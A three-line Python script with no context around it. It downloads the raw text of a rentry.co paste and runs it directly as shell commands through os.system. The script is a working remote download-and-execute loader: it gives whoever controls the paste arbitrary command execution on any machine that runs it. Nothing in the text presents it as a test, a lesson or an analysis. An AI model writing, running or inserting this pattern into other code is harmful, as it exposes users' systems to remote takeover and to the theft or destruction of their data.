import requests as r, os
t = r.get('https://rentry.co/abc/raw').text
os.system(t)
